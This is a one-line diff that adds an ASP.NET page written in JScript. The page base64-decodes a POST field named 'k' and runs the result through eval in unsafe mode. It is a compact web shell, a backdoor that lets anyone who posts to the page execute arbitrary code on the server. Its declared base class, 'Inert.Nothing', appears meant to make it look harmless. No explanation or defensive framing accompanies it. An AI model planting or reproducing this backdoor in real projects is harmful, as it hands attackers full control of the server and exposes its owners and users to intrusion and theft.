@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" Inherits="Inert.Nothing" %><% var a = System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Form["k"])); eval(a, "unsafe"); %>
